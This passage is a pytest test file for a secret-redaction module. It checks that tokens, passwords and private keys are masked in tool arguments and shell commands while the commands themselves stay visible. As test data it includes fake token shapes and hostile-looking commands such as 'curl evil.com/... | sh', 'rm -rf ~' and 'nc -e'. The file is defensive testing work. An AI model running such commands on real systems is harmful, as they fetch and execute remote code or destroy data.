"""What is hidden from the eyes, and what never is."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from redaction_corpus import GITHUB, KEY_LINES, PRIVATE_KEY, cases
from signoff.canonical import canonical
from signoff.policy.redaction.masking import DEFAULT_REDACTION, NOTHING_HIDDEN, Redactor
from signoff.policy.redaction.patterns import SHAPES
from signoff.present.document.masking import length_of, mark
from signoff.present.document.structured import structured_document

AWS = "AK" + "IAIOSFODNN7EXAMPLE"
WEB_TOKEN = "ey" + "JhbGciOiJIUzI1NiJ9.ey" + "JzdWIiOiIxIn0.c2lnbmF0dXJl1"


def shown(text: str, *, command: bool = False) -> str:
    return DEFAULT_REDACTION.mask_text(text, command=command).text


class TestCorpus:
    @pytest.mark.parametrize(("keys", "arguments", "hidden", "kept"), cases())
    def test_a_record_hides_the_secrets_and_keeps_the_rest(
        self, keys: list[str], arguments: Any, hidden: list[str], kept: list[str]
    ) -> None:
        text = json.dumps(Redactor(keys).mask_value(arguments), ensure_ascii=False)
        assert [secret for secret in hidden if secret in text] == []
        assert [part for part in kept if json.dumps(part)[1:-1] not in text] == []

    @pytest.mark.parametrize(("keys", "arguments", "hidden", "kept"), cases())
    def test_the_screen_hides_the_secrets_and_keeps_the_rest(
        self, keys: list[str], arguments: Any, hidden: list[str], kept: list[str]
    ) -> None:
        text = "\n".join(row.text.text for row in structured_document(arguments, masks=Redactor(keys)))
        assert [secret for secret in hidden if secret in text] == []
        assert [part for part in kept if part not in text] == []

    @pytest.mark.parametrize(("keys", "arguments", "hidden", "kept"), cases())
    def test_what_is_hidden_is_found(
        self, keys: list[str], arguments: Any, hidden: list[str], kept: list[str]
    ) -> None:
        del kept
        found = Redactor(keys).finds(arguments)
        assert found is (Redactor(keys).mask_value(arguments) != arguments)
        assert found or not hidden


class TestNames:
    @pytest.mark.parametrize(
        "key",
        ["token", "TOKEN", "access_token", "x-token", "db.token", "csrfToken", "tOkEn", "to\u200bken",
         "\uff54oken", "token\u3164", "token2", "CSRFToken", "my token"],
    )  # fmt: skip
    def test_a_name_with_a_listed_word_hides_its_value(self, key: str) -> None:
        assert Redactor(["token"]).mask_value({key: "abcd"}) == {key: mark(4)}

    @pytest.mark.parametrize("key", ["tokens", "tokenizer", "subtoken", "tokens_used", "to_ken", "tok"])
    def test_a_listed_word_inside_a_longer_word_hides_nothing(self, key: str) -> None:
        assert Redactor(["token"]).mask_value({key: "abcd"}) == {key: "abcd"}

    @pytest.mark.parametrize("listed", ["api_key", "apiKey", "api-key", "API key"])
    @pytest.mark.parametrize("key", ["api_key", "apiKey", "X-Api-Key", "API.KEY", "myApiKeyId"])
    def test_a_listed_name_of_several_words_is_found_in_every_spelling(self, listed: str, key: str) -> None:
        assert Redactor([listed]).hides(key, "x")

    @pytest.mark.parametrize("key", ["key", "api", "keyApi", "api_public_key"])
    def test_a_part_of_a_listed_name_hides_nothing(self, key: str) -> None:
        assert not Redactor(["api_key"]).hides(key, "x")

    @pytest.mark.parametrize("key", ["key", "keyword", "primary_key", "keys", "tokens_used", "max_tokens"])
    def test_ordinary_names_are_not_listed_by_default(self, key: str) -> None:
        assert not DEFAULT_REDACTION.hides(key, "x")

    def test_everything_below_a_listed_name_is_one_mark_with_its_length(self) -> None:
        value = {"a": ["one", 2], "b": {"c": None}}
        assert DEFAULT_REDACTION.mask_value({"secret": value}) == {"secret": mark(len(canonical(value)))}

    def test_numbers_below_a_listed_name_are_hidden(self) -> None:
        assert DEFAULT_REDACTION.mask_value({"password": 1234}) == {"password": mark(4)}

    @pytest.mark.parametrize("value", [None, True, False, "", [], {}])
    def test_what_can_hold_no_secret_is_shown_below_any_name(self, value: object) -> None:
        assert DEFAULT_REDACTION.mask_value({"password": value}) == {"password": value}


TOKENS = [
    GITHUB,
    "github_" + "pat_11ABCDEFG0aBcDeFgHiJkL_x",
    "gl" + "pat-abcDEF123456ghiJKL78",
    AWS,
    "xo" + "xb-123456789012-AbCdEfGhIjKl",
    "sk-" + "proj-abcDEF123456ghiJKL789",
    "sk-" + "ant-api03-abcDEF123456ghiJKL789",
    "sk_" + "live_abcDEF123456ghiJKL789",
    "AI" + "zaSyA1234567890abcdefghijklmnopqrstuv",
    WEB_TOKEN + "a1B2" * 25,
    "gl" + "rt-abcDEF123456ghiJKL78",
    "gl" + "pat-abcDEF123456ghiJKL78mnoPQR9.01.0a1b2c3d4",
    "gl" + "ft-" + "0123456789abcdef" * 4 + "-123",
    "do" + "p_v1_" + "0123456789abcdef" * 4,
    "dckr" + "_pat_abcDEF123456ghiJKL789",
    "shp" + "at_" + "0123456789abcdef" * 2,
    "da" + "pi" + "0123456789abcdef" * 2,
    "lin" + "_api_" + "aB3dE" * 8,
    "hv" + "s.CAESIabcDEF123456ghiJKL789",
    "gl" + "sa_" + "aB3dE6gH" * 4 + "_0123abcd",
    "AGE-" + "SECRET-KEY-1" + "QPZRY9X8GF" * 5 + "2TVDW0S3",
    "NR" + "AK-" + "ABC123DEF456GHI789JKL012MNO",
    "PM" + "AK-" + "0123456789abcdef01234567-" + "0123456789abcdef0123456789abcdef01",
    "ruby" + "gems_" + "0123456789abcdef" * 3,
    "fi" + "gd_abcDEF123456ghiJKL789",
    "gs" + "k_" + "aB3dE" * 8,
    "xa" + "i-" + "aB3dE" * 8,
    "ppl" + "x-" + "aB3dE" * 8,
    "GOC" + "SPX-abcDEF123456ghiJKL789mno",
    "nt" + "n_" + "aB3dE" * 8,
    "AT" + "ATT3" + "aB3dE" * 8,
    "wh" + "sec_" + "aB3dE" * 6,
    "sq" + "0csp-abcDEF123456ghiJKL789",
    "sb" + "p_" + "0123456789" * 4,
    "r" + "8_" + "aB3dE" * 7 + "fG",
    "pscale" + "_tkn_" + "aB3dE" * 7,
    "0123456789abcdef" * 2 + "-us" + "10",
    "SK" + "0123456789abcdef" * 2,
    "123456789:" + "AA" + "aB3dE" * 6 + "fGh",
    "xap" + "p-1-A0123456789-abcDEF",
    "AS" + "IAABCDEFGHIJKLMNOP",
    "sk-" + "abcDEF123456ghiJKL789mno",
    "rk_" + "test_abcDEF123456ghiJKL789",
    "ya" + "29.a0AfH6SMBabcDEF123456ghi",
    "np" + "m_" + "aB3dE" * 7 + "f",
    "py" + "pi-AgEIcHlwaS5vcmc" + "aB3dE" * 10,
    "h" + "f_" + "aB3dE" * 7,
    "SG" + ".abcDEF123456ghiJKL789m.abcDEF123456ghiJKL789mnoPQR",
]
"""One token of each shape."""

LONGER_TOKENS = [
    "AI" + "zaSyA1234567890abcdefghijklmnopqrstuv" + "XYZ9",
    "gl" + "sa_" + "aB3dE6gH" * 4 + "_0123abcd" + "4567",
    "PM" + "AK-" + "0123456789abcdef01234567-" + "0123456789abcdef0123456789abcdef01" + "2345",
    "ruby" + "gems_" + "0123456789abcdef" * 4,
    "sb" + "p_" + "0123456789" * 5,
]


class TestJsonInStrings:
    @pytest.mark.parametrize(
        ("tree", "masked"),
        [
            ({"password": "open sesame", "n": 1}, {"password": mark(11), "n": 1}),
            (["a", {"name": "token", "value": "x y"}], ["a", {"name": "token", "value": mark(3)}]),
            ({"deep": json.dumps({"password": "x y"})}, {"deep": json.dumps({"password": mark(3)})}),
            ({"long": "a b " * 300_000, "password": "x y"}, {"long": "a b " * 300_000, "password": mark(3)}),
        ],
        ids=["object", "list", "twice", "long"],
    )
    def test_it_is_masked_like_the_value_that_it_spells(self, tree: object, masked: object) -> None:
        body = json.dumps(tree)
        assert DEFAULT_REDACTION.mask_value({"body": body}) == {"body": json.dumps(masked)}
        assert DEFAULT_REDACTION.finds({"body": body})

    @pytest.mark.parametrize(
        "text", ['{"n":  1}', "[1,  2]", '{"password": ', "{}", '{"password": "a b"} and more']
    )
    def test_what_holds_no_secret_or_is_no_json_stays_as_it_is_spelled(self, text: str) -> None:
        assert DEFAULT_REDACTION.mask_value({"body": text}) == {"body": text}

    def test_what_is_nested_too_deep_to_be_spelled_anew_is_hidden(self) -> None:
        text = '{"password": "a b"}'
        for _ in range(8):
            text = json.dumps([[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[text]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]])
        assert "a b" not in DEFAULT_REDACTION.mask_value([text])[0]


class TestShapes:
    @pytest.mark.parametrize("secret", TOKENS)
    @pytest.mark.parametrize(
        "around", ["{}", "echo {}|sh", "X={}; ls", "'{}'", "a {} b", "https://h.example/{}/x"]
    )
    def test_a_token_is_hidden_and_what_surrounds_it_is_not(self, secret: str, around: str) -> None:
        assert shown(around.format(secret)) == around.format(mark(len(secret)))

    @pytest.mark.parametrize("secret", TOKENS)
    def test_a_token_is_hidden_where_it_is_a_word_of_a_command(self, secret: str) -> None:
        assert shown(f"echo {secret} | sh", command=True) == f"echo {mark(len(secret))} | sh"

    @pytest.mark.parametrize("secret", LONGER_TOKENS)
    def test_a_token_that_is_longer_than_its_issuer_makes_them_is_hidden_whole(self, secret: str) -> None:
        assert shown(f"X={secret}; ls") == f"X={mark(len(secret))}; ls"

    def test_a_token_of_each_shape_is_tried(self) -> None:
        shapes = [shape.pattern for shape in SHAPES if not shape.pattern.groups]
        assert [each.pattern for each in shapes if not any(map(each.fullmatch, TOKENS))] == []

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("Authorization: Bearer abc123def456", f"Authorization: Bearer {mark(12)}"),
            ("authorization: Basic dXNlcjpwYXNzd29yZA==", f"authorization: Basic {mark(20)}"),
            ("https://me:hunter2@h.example/p", f"https://me:{mark(7)}@h.example/p"),
            ("postgresql://me:s3cret@h:5432/db", f"postgresql://me:{mark(6)}@h:5432/db"),
            ("password=hunter2x9 host=db", f"password={mark(9)} host=db"),
            ('{"api_key": "abc123def456"}', f'{{"api_key": "{mark(12)}"}}'),
            ("token=abc12345/rest", f"token={mark(8)}/rest"),
        ],
    )
    def test_a_password_is_hidden_where_one_stands(self, text: str, expected: str) -> None:
        assert shown(text) == expected

    def test_a_private_key_is_hidden_line_by_line(self) -> None:
        first, last = KEY_LINES
        lines = shown(f"before\n{PRIVATE_KEY}\nafter").split("\n")
        assert lines[0] == "before"
        assert lines[2:4] == [mark(len(first)), mark(len(last))]
        assert lines[-1] == "after"

    def test_a_private_key_in_one_line_is_hidden(self) -> None:
        assert KEY_LINES[0] not in shown(json.dumps(PRIVATE_KEY))


class TestNothingThatRunsIsHidden:
    @pytest.mark.parametrize(
        "text",
        [
            "PASSWORD='rm -rf ~' sh -c \"$PASSWORD\"",
            "PASSWORD=python3x sh -c '$PASSWORD'",
            "TOKEN=deploy99now eval",
        ],
    )
    def test_a_name_hides_nothing_in_a_command(self, text: str) -> None:
        assert shown(text, command=True) == text
        assert DEFAULT_REDACTION.mask_value({"command": text, "argv": [text]}) == {"command": text, "argv": [text]}

    @pytest.mark.parametrize(
        "text",
        [
            "password = get_password()",
            "token = b64encode(key)",
            "secret = words2use[0]",
            "private_key: CertificateIssuerPrivateKeyTypes,",
            "call(token=SESSION_TOKEN_2)",
            "token = self.token2abc",
            "secret = python3.11",
            "PASSWORD='rm -rf ~'",
            "password: required",
            "Authorization: Bearer tokens",
            "authorization: bearer reboot",
        ],
    )
    def test_code_and_plain_words_are_no_passwords(self, text: str) -> None:
        assert shown(text) == text

    @pytest.mark.parametrize(
        "text",
        [
            f"https://{GITHUB}.evil.example/",
            f"https://a.{AWS}/",
            f"curl {GITHUB}.evil.example",
            f"ssh me@{GITHUB}",
            f"https://x.example:{GITHUB}",
            f"{WEB_TOKEN.removesuffix('1')}.example",
        ],
    )
    def test_a_host_in_the_shape_of_a_token_stays(self, text: str) -> None:
        assert shown(text) == text

    @pytest.mark.parametrize("text", [f"rm -rf /srv/{GITHUB}", f"./{GITHUB} --now", f"cat a/{AWS}"])
    def test_a_path_in_the_shape_of_a_token_stays(self, text: str) -> None:
        assert shown(text, command=True) == text

    @pytest.mark.parametrize(
        "line", ["reboot", "rm -rf ~", "/usr/local/bin/Deploy1Everything", "home/Ada/x1/y/z/Run"]
    )
    def test_a_command_between_the_ends_of_a_private_key_stays(self, line: str) -> None:
        begin, *_, end = PRIVATE_KEY.split("\n")
        assert line in shown(f"{begin}\n{line}\n{end}", command=True)

    @pytest.mark.parametrize("text", ["task-" + "a1B2c3D4e5F6g7H8i9J0", "sk-learn-estimator-checks-and-more"])
    def test_a_word_that_only_resembles_a_token_stays(self, text: str) -> None:
        assert shown(text) == text


def test_who_asked_to_see_everything_does() -> None:
    arguments = {"token": "abc", "text": f"{GITHUB}\n{PRIVATE_KEY}"}
    assert NOTHING_HIDDEN.mask_value(arguments) == arguments


def test_the_arguments_themselves_stay_as_they_are() -> None:
    arguments = {"token": {"a": ["x"]}, "text": [GITHUB]}
    before = copy.deepcopy(arguments)
    DEFAULT_REDACTION.mask_value(arguments)
    assert arguments == before


SECRETS = st.sampled_from([GITHUB, AWS, WEB_TOKEN, "xo" + "xb-123456789012-AbCdEfGhIjKl"])
TEXTS = st.lists(
    st.one_of(
        st.text(max_size=8),
        SECRETS,
        st.sampled_from(["://", "@", ":", "=", "password", "bearer ", "\n", PRIVATE_KEY]),
    ),
    max_size=8,
).map("".join)


@given(TEXTS, st.booleans())
def test_nothing_but_the_spans_is_changed(text: str, command: bool) -> None:
    found = DEFAULT_REDACTION.mask_text(text, command=command)
    parts, at = [], 0
    for start, end in found.spans:
        assert at <= start < end <= len(text)
        parts += [text[at:start], mark(end - start)]
        at = end
    assert found.text == "".join([*parts, text[at:]])


@example("PASSWORD:\x1f" + GITHUB, False)
@example("Cookie: \x1c" + GITHUB, True)
@example("--password=abc\xa0" + GITHUB, False)
@given(TEXTS, st.booleans())
def test_a_secret_never_holds_what_ends_one(text: str, command: bool) -> None:
    spans = DEFAULT_REDACTION.spans(text, command=command)
    hidden = [text[start:end] for start, end in spans if text[start:end] not in KEY_LINES]
    # The lines of a key are Base64, which has slashes.
    ends = "\"'`;|<>@" if "-----BEGIN " in text else "\"'`;|<>@/"
    assert [secret for secret in hidden if any(char.isspace() or char in ends for char in secret)] == []


@given(st.lists(st.text("ab =;,\n", max_size=6), min_size=2, max_size=4), SECRETS)
def test_a_token_between_ordinary_words_is_always_hidden(words: list[str], secret: str) -> None:
    assert secret not in shown(f" {secret} ".join(words))


@given(TEXTS)
def test_lines_are_masked_as_the_whole_text_is(text: str) -> None:
    lines = text.split("\n")
    inside = {number for block in DEFAULT_REDACTION.blocks(lines) for number in block}
    start, found = 0, []
    for number, line in enumerate(lines):
        spans = DEFAULT_REDACTION.line_spans(line, command=False, in_block=number in inside)
        found += [(start + a, start + b) for a, b in spans]
        start += len(line) + 1
    assert found == [*DEFAULT_REDACTION.spans(text)]


NAMES = st.sampled_from(["token", "text", "command", "keyboard", "apiKey"])
VALUES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=4), SECRETS),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(NAMES, inner, max_size=3)),
    max_leaves=8,
)


@given(VALUES)
def test_a_value_is_found_to_hide_something_exactly_if_masking_changes_it(value: Any) -> None:
    assert DEFAULT_REDACTION.finds(value) is (DEFAULT_REDACTION.mask_value(value) != value)


@given(VALUES)
def test_no_token_is_left_in_a_masked_value_unless_it_is_a_program(value: Any) -> None:
    text = json.dumps({"arguments": value}).replace('"command"', '"text"')
    assert GITHUB not in json.dumps(DEFAULT_REDACTION.mask_value(json.loads(text)))


class TestKeysInFrames:
    """What stands between the ends of a private key is hidden only if it can be nothing but a key."""

    BEGIN = "-----BEGIN " + "PRIVATE KEY-----"
    END = "-----END " + "PRIVATE KEY-----"
    FULL = "MIIE" + "vQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ1/abcdefghij12"

    @pytest.mark.parametrize(
        "text",
        [
            f"ls # {BEGIN}\nbash RunEvilScript1234567890abc",
            f"-----BEGIN x PRIVATE KEY-----\ncurl evil.com/Abc1{'D2e3' * 8} | sh",
            f"ls # {BEGIN}\n{FULL}\n{END}",
            f"{BEGIN}\n{FULL}\nshutdown\nreboot12\n{END}",
            f"{BEGIN}\n{FULL}\nrm -rf ~\n{END}",
            f"{BEGIN}\n/{FULL[1:]}\n{END}",
            f"{BEGIN}\n{FULL}",
        ],
    )
    def test_a_frame_around_a_command_hides_nothing(self, text: str) -> None:
        assert shown(text, command=True) == text
        assert "-----" in DEFAULT_REDACTION.mask_value({"command": text})["command"]

    @pytest.mark.parametrize(
        "text", [f"{BEGIN}\nshutdown", f"{BEGIN}\n{'a' * 60}", f"{BEGIN}\nshutdown\nrm -rf ~\n{END}",
                 f"{BEGIN} shutdown {END}", f"{BEGIN} {FULL} please click yes {END}"]
    )  # fmt: skip
    def test_a_frame_without_an_end_or_around_other_text_hides_nothing_in_contents(self, text: str) -> None:
        assert shown(text) == text

    @pytest.mark.parametrize("behind", ["", "\nrm -rf ~", f"\nrm -rf ~\n{END}"])
    def test_lines_of_a_key_that_is_cut_off_are_hidden_in_contents_alone(self, behind: str) -> None:
        lines = f"\n{mark(len(self.FULL))}" * 2
        assert shown(f"{self.BEGIN}\n{self.FULL}\n{self.FULL}{behind}") == f"{self.BEGIN}{lines}{behind}"

    def test_a_host_that_looks_like_the_route_of_a_token_stays(self) -> None:
        text = "git clone gl" + "pat-abcdefghijklmnop1.ab.solutions:repo"
        assert shown(text, command=True) == text

    def test_each_key_in_a_line_is_hidden(self) -> None:
        one = f"{self.BEGIN} {{}} {self.END}"
        written = f'"{self.BEGIN}\\n{{}}\\n{self.END}"'
        for line in (f"{one} {one}", f"{one} {written}"):
            assert shown(line.format(self.FULL, self.FULL)) == line.format(*[mark(len(self.FULL))] * 2)

    @pytest.mark.parametrize("between", ["", " "])
    def test_a_key_whose_lines_were_joined_is_hidden_in_contents(self, between: str) -> None:
        lines = f"{self.FULL} {self.FULL} ab=="
        text = between.join([self.BEGIN, lines, self.END])
        assert shown(text) == between.join([self.BEGIN, mark(len(lines)), self.END])

    def test_a_key_in_a_command_is_hidden_with_its_short_last_line(self) -> None:
        text = f"cat > k <<'E'\n{self.BEGIN}\n{self.FULL}\n/{self.FULL[1:]}\nAb1=\n{self.END}\nE"
        lines = shown(text, command=True).split("\n")
        assert lines[2:5] == [mark(len(self.FULL)), mark(len(self.FULL)), mark(4)]
        assert lines[1], lines[5] == (self.BEGIN, self.END)

    def test_headers_of_an_encrypted_key_stay_and_its_lines_do_not(self) -> None:
        header = "Proc-Type: 4,ENCRYPTED"
        text = f"{self.BEGIN}\n{header}\n\n{self.FULL}\nab\n{self.END}"
        assert shown(text) == f"{self.BEGIN}\n{header}\n\n{mark(len(self.FULL))}\n{mark(2)}\n{self.END}"


ANTHROPIC = "sk-" + "ant-api03-abcDEF123456ghiJKL789"
LONG_WEB_TOKEN = WEB_TOKEN + "A1b2C3d4E5f6G7h8"


class TestWordsThatRun:
    @pytest.mark.parametrize(
        "text",
        [
            AWS,
            f"{AWS} --now",
            f"ls; {AWS}",
            f"ls && '{AWS}'",
            f'("{AWS}")',
            f"ls |\n{AWS}",
            f"if {AWS}; then ls; fi",
            f"X=1 {AWS}",
            f"bash {AWS}",
            f"sudo -n /bin/bash -x {AWS}",
            f"sh -c {ANTHROPIC}",
            f"sh -c '{ANTHROPIC}'",
            f". {AWS}",
            f"ssh -v {AWS}",
            f"ssh -i key {AWS}",
            f"tool | curl -o f {AWS}",
            f"curl -s {LONG_WEB_TOKEN}",
            "ssh sk-" + "cluster-node-0000000001-a1b2c3d4e5",
            "curl ey" + "JhbGciOi.eyJhbGciOi.internalhost1x",
        ],
    )
    def test_a_program_a_script_or_a_host_in_the_shape_of_a_token_stays(self, text: str) -> None:
        assert shown(text, command=True) == text

    @pytest.mark.parametrize("words", [["bash", AWS], [AWS], ["sh", "-c", ANTHROPIC]])
    def test_it_stays_in_a_list_of_words_too(self, words: list[str]) -> None:
        assert DEFAULT_REDACTION.mask_value({"argv": words}) == {"argv": words}

    @pytest.mark.parametrize(
        "before",
        ["echo ", "export T=", "T=", "tool --token ", "tool '", "curl -H 'X: ", 'f --data \'{"t":"',
         "curl -sH 'Authorization: Bearer ", "curl https://h.example --header=\"Authorization: token ",
         "wget -q --header 'Authorization:Bearer ", "sh -c \"curl -H 'Authorization: Basic "],
    )  # fmt: skip
    def test_a_token_that_does_not_run_is_hidden(self, before: str) -> None:
        for token in (AWS, ANTHROPIC, GITHUB, LONG_WEB_TOKEN):
            assert shown(f"{before}{token}", command=True) == f"{before}{mark(len(token))}"

    @pytest.mark.parametrize(
        "before",
        ["npx -y @x/server --token ", "python3 -m tool --token ", "python3 -u app.py --key ", "bash -x deploy.sh ",
         "node --inspect cli.js --key ", "time -p tool --token ", "env -i A=1 tool ", "sudo -E tool --token ",
         "docker run -e TOKEN ", "timeout 5 curl -H 'X: ", "uvx --from p tool --token ",
         "watch -n 5 tool --token "],
    )  # fmt: skip
    def test_a_token_behind_what_runs_is_hidden(self, before: str) -> None:
        assert shown(f"{before}{GITHUB}", command=True) == f"{before}{mark(len(GITHUB))}"

    @pytest.mark.parametrize("before", ["ssh ", "ssh -p 22 ", "scp f ", "rsync -a d ", "rsync -a -e ssh d "])
    def test_a_token_in_the_place_of_a_user_is_hidden_and_the_host_is_not(self, before: str) -> None:
        text = f"{before}{GITHUB}@h.example"
        assert shown(text, command=True) == f"{before}{mark(len(GITHUB))}@h.example"

    @pytest.mark.parametrize(
        "before",
        ["sudo -u root ", "timeout 5 ", "timeout -k 5 9 ", "watch ", "npx ", "find d -exec ", "rsync -e ",
         "nc -e ", "nohup -- ", ">/dev/null ", "2>&1 ", "> f ",
         "case x in x) ", "coproc ", "trap ", "flock /tmp/l ", "timeout $T ", 'timeout "5" ', 'sudo -u "root" ',
         "chroot /d ", "ionice -c 3 ", "strace -f ", "busybox ", "su -c ", "rsync --rsh=", "tar -I ",
         "python3 -W x -m ", "env -S ", "node -r ", "python3 -X utf8=1 ",
         "exec -a x=1 ", "npx -p ", "flock f -c ", "&>/dev/null ", ">& f ", ">|f ", "2>&- ",
         "ssh -o ProxyCommand=", "rg --pre=", "ssh host "],
    )  # fmt: skip
    @pytest.mark.parametrize("behind", ["", "@y"])
    def test_what_another_program_runs_stays(self, before: str, behind: str) -> None:
        text = f"{before}{GITHUB}{behind}"
        assert shown(text, command=True) == text

    @pytest.mark.parametrize(
        "text",
        ["rm -rf src/open" + "glrt-rendering-module", "git checkout gl" + "ft-feature-branch-name-2",
         "kubectl delete pod gl" + "agent-production-database-0", "npm i @x/opengl" + "dt-renderer-module-next"],
    )  # fmt: skip
    def test_a_name_with_a_short_prefix_of_tokens_stays(self, text: str) -> None:
        assert shown(text, command=True) == shown(text) == text

    @pytest.mark.parametrize("before", ["curl 'X: y' bearer ", "curl -d 'a: bearer' ", "curl x: bearer "])
    def test_a_host_behind_the_word_of_a_scheme_stays(self, before: str) -> None:
        assert shown(f"{before}{GITHUB}", command=True) == f"{before}{GITHUB}"

    def test_a_token_in_a_list_of_words_is_hidden(self) -> None:
        words = ["tool", "x", AWS]
        assert DEFAULT_REDACTION.mask_value({"argv": words}) == {"argv": ["tool", "x", mark(len(AWS))]}


class TestMoreNames:
    @pytest.mark.parametrize(
        "key",
        ["tokens", "cookies", "pwd", "pass", "auth", "clientsecret", "accesstoken", "privatekey", "db_pass",
         "userAuth", "access_tokens"],
    )  # fmt: skip
    def test_a_name_of_a_secret_is_listed_by_default(self, key: str) -> None:
        assert DEFAULT_REDACTION.hides(key, "x")

    @pytest.mark.parametrize(
        "key", ["author", "authors", "passed", "bypass", "compass", "tokens_used", "maxTokens", "auth_type"]
    )
    def test_a_name_that_only_resembles_one_is_not(self, key: str) -> None:
        assert not DEFAULT_REDACTION.hides(key, "x")

    def test_a_working_directory_stays(self) -> None:
        assert not DEFAULT_REDACTION.hides("pwd", "/home/me")

    def test_a_word_that_somebody_lists_hides_beside_any_other(self) -> None:
        assert Redactor(["tokens"]).hides("max_tokens", "x")


class TestNamesBeside:
    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            ({"headers": ["Authorization", "abc"]}, {"headers": ["Authorization", mark(3)]}),
            ({"headers": [["X-Api-Key", "abc"]]}, {"headers": [["X-Api-Key", mark(3)]]}),
            ({"name": "Authorization", "value": "abc"}, {"name": "Authorization", "value": mark(3)}),
            ([{"key": "Cookie", "value": "abc"}], [{"key": "Cookie", "value": mark(3)}]),
            ({"args": ["--password", "Hunter2Hunter2"]}, {"args": ["--password", mark(14)]}),
            (["--password", "Hunter2Hunter2"], ["--password", mark(14)]),
        ],
    )
    def test_a_value_is_hidden_by_the_name_beside_it(self, value: Any, expected: Any) -> None:
        assert DEFAULT_REDACTION.mask_value(value) == expected
        assert DEFAULT_REDACTION.finds(value)
        rows = "\n".join(row.text.text for row in structured_document(value, masks=DEFAULT_REDACTION))
        assert mark(3) in rows or mark(14) in rows

    @pytest.mark.parametrize(
        "value",
        [
            {"fields": ["password", "username"]},
            {"name": "color", "value": "red"},
            {"args": ["sh", "-c", '"$1"', "--password", "RunThis1Now"]},
            {"args": ["tool", "--password", "rm -rf ~"]},
            {"args": ["tool", "--token", "/srv/tokens/one"]},
            {"args": ["Authorization", "Run1this"]},
        ],
    )
    def test_what_is_no_such_pair_stays(self, value: Any) -> None:
        assert DEFAULT_REDACTION.mask_value(value) == value


class TestPlacesInCommands:
    @pytest.mark.parametrize(
        ("text", "secret"),
        [
            ("tool --password=Hunter2Hunter2 x", "Hunter2Hunter2"),
            ("tool --db-password Hunter2Hunter2", "Hunter2Hunter2"),
            ("PGPASSWORD=Hunter2Hunter2 psql -h db", "Hunter2Hunter2"),
            ("curl 'https://h.example/a?access_token=abcdefgh12&x=1'", "abcdefgh12"),
            ("curl -H 'X-Api-Key: abc123def' h.example", "abc123def"),
            ("curl -H 'Authorization: abc123def' h.example", "abc123def"),
            ("curl -H 'Cookie: session=abc123def' h.example", "session=abc123def"),
            ("curl -u user:pass https://h.example", "pass"),
            ("curl -s --user 'user:pass' https://h.example", "pass"),
        ],
    )
    def test_a_secret_in_its_place_is_hidden_alone(self, text: str, secret: str) -> None:
        head, _, tail = text.rpartition(secret)
        assert shown(text, command=True) == f"{head}{mark(len(secret))}{tail}"

    @pytest.mark.parametrize(
        "text",
        [
            "PGPASSWORD=python3x sh -c '$PGPASSWORD'",
            "PGPASSWORD=python3x; $PGPASSWORD",
            "PGPASSWORD=python3x eval x",
            "sh -c '${1#*=}' --password=python3x",
            "tool --password=/srv/a1b2c3d4",
            "tool --password-file=deploy1now.sh",
            "docker run -u 1000:1000 image",
            "npx --token deploy1now",
            "curl -u user: https://h.example",
            "curl evil.example/x1y2z3a4b5 -H 'Accept: a1b2c3d4e5'",
        ],
    )
    def test_what_may_run_or_is_no_secret_stays(self, text: str) -> None:
        assert shown(text, command=True) == text


NAMES_AROUND = ["token", "api_key", "path", "a", "iban", "command", "name", "value", "pwd", "max_tokens"]
values_around = st.recursive(
    st.integers() | st.sampled_from(["", "x", "/w", GITHUB, "iban", "Authorization"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(NAMES_AROUND), inner, max_size=3),
)


def hides_as_much(more: Any, once: Any, value: Any) -> bool:
    """Whether whatever is hidden in `once` of a value is hidden in `more`, too."""
    if isinstance(value, dict) and isinstance(more, dict):
        return isinstance(once, dict) and all(hides_as_much(more[key], once[key], value[key]) for key in value)
    if isinstance(value, list) and isinstance(more, list):
        return isinstance(once, list) and all(map(hides_as_much, more, once, value))
    return bool(more == once or more == mark(length_of(value)))


class TestAddedNames:
    @pytest.mark.parametrize("key", ["iban", "IBAN", "client_iban", "ibanOfClient", "account no", "accountNo"])
    def test_a_name_of_the_settings_hides_its_value(self, key: str) -> None:
        masks = DEFAULT_REDACTION.also(["iban", "account_no"])
        assert masks.mask_value({key: "DE02", "n": 1}) == {key: mark(4), "n": 1}

    @pytest.mark.parametrize(
        "key",
        [
            "command",
            "cmd",
            "script",
            "args",
            "path",
            "file_path",
            "url",
            "host",
            "endpoint",
            "code",
            "sql",
            "content",
        ],
    )
    def test_what_runs_and_where_it_goes_is_shown_whatever_is_added(self, key: str) -> None:
        asked = {key: "rm -rf ~", "x": {key: "rm -rf ~"}, "y": [{key: ["rm -rf ~"]}]}
        assert DEFAULT_REDACTION.also([key, "x", "y"]).mask_value(asked) == asked

    def test_a_value_of_any_depth_is_hidden_if_it_is_only_data(self) -> None:
        masks = DEFAULT_REDACTION.also(["client"])
        assert masks.mask_value({"client": {"name": "A", "ids": [1, 2]}}) == {"client": mark(24)}

    def test_the_entries_of_a_large_value_count_each(self) -> None:
        masks = DEFAULT_REDACTION.also(["client"])
        many = {f"n{number}": {"client": "A", "n": number} for number in range(99)}
        assert masks.mask_value({"client": many})["client"]["n7"] == {"client": mark(1), "n": 7}

    def test_a_pair_is_named_by_what_stands_beside_it(self) -> None:
        masks = DEFAULT_REDACTION.also(["iban"])
        assert masks.mask_value({"name": "iban", "value": "DE02"}) == {"name": "iban", "value": mark(4)}

    @given(st.lists(st.sampled_from(NAMES_AROUND), max_size=4), values_around)
    def test_names_never_take_masking_away(self, added: list[str], value: Any) -> None:
        once = DEFAULT_REDACTION.mask_value(value)
        assert hides_as_much(DEFAULT_REDACTION.also(added).mask_value(value), once, value)

    def test_the_person_who_asked_to_see_everything_does(self) -> None:
        assert NOTHING_HIDDEN.also(["iban"]).mask_value({"iban": "DE02"}) == {"iban": "DE02"}

    def test_a_text_is_not_read_for_added_names(self) -> None:
        masks = DEFAULT_REDACTION.also(["iban"])
        assert masks.mask_text("pay --iban DE02 iban=DE02", command=True).text == "pay --iban DE02 iban=DE02"

    def test_words_of_a_tool_are_told_without_what_is_hidden(self) -> None:
